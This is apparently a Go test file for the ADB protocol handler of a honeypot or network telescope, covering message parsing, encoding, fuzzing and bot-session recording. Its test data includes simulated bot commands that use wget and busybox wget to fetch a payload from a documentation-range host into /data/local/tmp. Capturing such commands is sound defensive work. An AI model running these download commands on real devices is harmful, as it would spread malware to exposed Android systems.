package adb

import (
	"bytes"
	"context"
	"errors"
	"io"
	"reflect"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
	"github.com/spoki-telescope/spoki/handlers/handlerstest"
	"github.com/spoki-telescope/spoki/records"
)

// hostCNXN was captured from `adb connect` (Debian adb 29.0.6).
const hostCNXN = "CNXN\x01\x00\x00\x01\x00\x00\x10\x00w\x00\x00\x00@.\x00\x00\xbc\xb1\xa7\xb1" +
	"host::features=remount_shell,abb_exec,abb,apex,fixed_push_mkdir,ls_v2,stat_v2," +
	"fixed_push_symlink_timestamp,cmd,shell_v2"

func TestReadMessage(t *testing.T) {
	open := Message{CmdOPEN, 7, 0, []byte("shell:cd /data/local/tmp; wget http://192.0.2.9/x\x00")}.Encode()
	badMagic := Message{CmdOKAY, 1, 2, nil}.Encode()
	badMagic[20] ^= 1
	big := Message{CmdWRTE, 1, 1, make([]byte, 100)}.Encode()
	tests := []struct {
		name    string
		in      []byte
		maxData int
		want    Message
		wantErr error
	}{
		{name: "adb connect CNXN", in: []byte(hostCNXN), maxData: maxDataBytes,
			want: Message{CmdCNXN, 0x01000001, 0x100000, []byte(hostCNXN[24:])}},
		{name: "OPEN", in: open, maxData: maxDataBytes,
			want: Message{CmdOPEN, 7, 0, []byte("shell:cd /data/local/tmp; wget http://192.0.2.9/x\x00")}},
		{name: "empty", in: nil, wantErr: io.EOF},
		{name: "short header", in: []byte("CNXN\x01"), wantErr: io.ErrUnexpectedEOF},
		{name: "short data", in: []byte(hostCNXN[:60]), maxData: maxDataBytes, wantErr: io.ErrUnexpectedEOF},
		{name: "bad magic", in: badMagic, maxData: maxDataBytes, wantErr: ErrMalformed},
		{name: "over the cap", in: big, maxData: 99, wantErr: ErrMalformed},
		{name: "http", in: []byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), wantErr: ErrMalformed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ReadMessage(bytes.NewReader(tc.in), tc.maxData)
			if !errors.Is(err, tc.wantErr) || (err == nil && !reflect.DeepEqual(got, tc.want)) {
				t.Errorf("ReadMessage(%q) = %+v, %v; want %+v, %v", tc.in, got, err, tc.want, tc.wantErr)
			}
		})
	}
}

func TestEncode(t *testing.T) {
	// The captured CNXN's checksum (0x2e40) is the byte sum Encode writes.
	m := Message{CmdCNXN, 0x01000001, 0x100000, []byte(hostCNXN[24:])}
	if got := m.Encode(); string(got) != hostCNXN {
		t.Errorf("Encode() = %q, want %q", got, hostCNXN)
	}
}

// TestServe scripts a bot: CNXN, a one-shot shell, an interactive shell
// with a write, then hang-up.
func TestServe(t *testing.T) {
	server, client := handlerstest.TCPPair(t) // buffered, unlike net.Pipe
	var script []byte                         // after the first segment, the CNXN
	script = append(script, Message{CmdOPEN, 1, 0, []byte("shell:getprop ro.product.cpu.abi\x00")}.Encode()...)
	script = append(script, Message{CmdOPEN, 2, 0, []byte("shell:\x00")}.Encode()...)
	script = append(script, Message{CmdWRTE, 2, 2, []byte("busybox wget http://192.0.2.9/adb.sh\n")}.Encode()...)
	go func() {
		client.Write(script)
		io.Copy(io.Discard, io.LimitReader(client, 1<<20)) // until Serve returns
	}()
	c := handlers.NewConn(server, records.Flow{}, []byte(hostCNXN))
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	detail, err := New(Config{ReadTimeout: 200 * time.Millisecond}).Serve(context.Background(), c)
	want := Detail{
		Version: 0x01000001, MaxData: 0x100000, Banner: hostCNXN[24:],
		Services: []string{"shell:getprop ro.product.cpu.abi", "shell:"},
		Writes:   []string{"busybox wget http://192.0.2.9/adb.sh\n"},
	}
	if err != nil || !reflect.DeepEqual(detail, want) {
		t.Errorf("Serve = %+v, %v; want %+v, nil", detail, err, want)
	}
}

func FuzzReadMessage(f *testing.F) {
	f.Add([]byte(hostCNXN))
	f.Add(Message{CmdOPEN, 1, 0, []byte("shell:id\x00")}.Encode())
	f.Add(Message{CmdWRTE, 1, 1, []byte("x")}.Encode())
	f.Fuzz(func(t *testing.T, in []byte) {
		const maxData = 64
		Match(in)
		r := bytes.NewReader(in)
		for {
			m, err := ReadMessage(r, maxData)
			if err != nil {
				return
			}
			if len(m.Data) > maxData {
				t.Fatalf("%d data bytes, cap %d", len(m.Data), maxData)
			}
			CommandName(m.Command)
			if back := m.Encode(); !bytes.Equal(back[24:], m.Data) {
				t.Fatalf("Encode(%+v) data %q", m, back[24:])
			}
		}
	})
}

func TestMatch(t *testing.T) {
	bad := []byte(hostCNXN)
	bad = append(bad[:20:20], 0, 0, 0, 0)
	tests := []struct {
		name string
		in   string
		want bool
	}{
		{"adb connect", hostCNXN, true},
		{"header cut", hostCNXN[:10], true},
		{"bad magic", string(bad), false},
		{"OPEN", string(Message{CmdOPEN, 1, 0, []byte("shell:id\x00")}.Encode()), false},
		{"text", "CNXNhello", true}, // too short to tell
		{"http", "GET / HTTP/1.1\r\n", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Match([]byte(tc.in)); got != tc.want {
				t.Errorf("Match(%q) = %v, want %v", tc.in, got, tc.want)
			}
		})
	}
}
